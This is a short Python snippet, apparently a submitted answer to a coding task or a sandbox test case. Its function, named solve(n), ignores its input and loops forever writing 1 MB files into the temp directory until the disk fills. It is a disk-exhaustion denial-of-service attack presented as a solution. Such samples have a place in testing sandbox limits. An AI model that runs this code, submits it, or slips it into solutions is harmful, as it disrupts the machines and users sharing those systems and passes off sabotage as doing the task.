import os, tempfile
def solve(n):
  folder, k = tempfile.gettempdir(), 0
  while True:
    open(f'{folder}/{k}', 'wb').write(b'x' * 10**6)
    k += 1
